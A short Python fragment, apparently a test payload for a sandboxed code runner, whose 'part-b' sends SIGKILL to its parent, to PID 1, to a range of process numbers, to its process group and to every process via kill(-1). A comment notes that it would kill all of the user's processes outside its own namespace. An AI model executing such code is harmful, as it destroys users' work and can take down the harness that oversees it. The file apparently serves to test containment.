# kill -9 of the parent, of process 1, of the process group, and of every process number that it can name.
# Part a was right before; the warm parent and the class go on.
# honest: part-a
# walled only: without a process namespace of its own it would kill every process of the user
### part-b
import os, signal

for _pid in [os.getppid(), 1, *range(2, 400), -os.getpgrp()]:
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
